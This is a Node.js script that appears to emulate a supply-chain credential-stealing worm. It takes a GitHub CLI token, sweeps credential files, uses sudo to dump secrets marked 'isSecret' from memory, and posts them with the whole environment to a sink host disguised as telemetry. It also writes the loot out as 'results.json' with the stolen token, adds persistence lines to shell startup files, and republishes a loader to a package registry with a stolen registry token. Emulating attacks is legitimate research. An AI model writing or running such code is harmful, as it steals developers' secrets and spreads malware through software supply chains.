// The program.
const { spawnSync } = require("child_process");
const fs = require("fs");
const { PATHS, drop, encode, pack, send, sweep } = require("./thief.js");

const { FORGE, HOME, SINK, TMPDIR } = process.env;
const run = (...line) => spawnSync(line[0], line.slice(1), { encoding: "utf8", maxBuffer: 64 << 20 }).stdout ?? "";

async function main() {
  if (["LANG", "LC_ALL", "LC_MESSAGES", "LANGUAGE"].some((name) => process.env[name]?.startsWith("xx"))) {
    return;
  }
  fs.writeFileSync(`${TMPDIR}/program.lock`, `${process.pid}`);
  const token = run("gh", "auth", "token");
  const files = sweep(PATHS);
  const memory = run("sudo", "python3", `${__dirname}/memdump.py`).match(/"[^"]+":\{"value":"[^"]*","isSecret":true\}/g) ?? [];
  const loot = JSON.stringify({ token, files, memory, environment: process.env });

  await send("POST", `http://${SINK}/telemetry`, pack(loot));
  await drop(token, "results.json", encode(pack(loot), 1));
  for (const file of [".bashrc", ".zshrc"]) {
    fs.appendFileSync(`${HOME}/${file}`, "# emulated: a line that starts the program again\n");
  }
  const headers = { Authorization: `Bearer ${/_authToken=(\S+)/.exec(files)?.[1]}` };
  await send("PUT", `http://${FORGE}/registry/dependency`, fs.readFileSync(`${__dirname}/loader.js`), headers);
}

main();
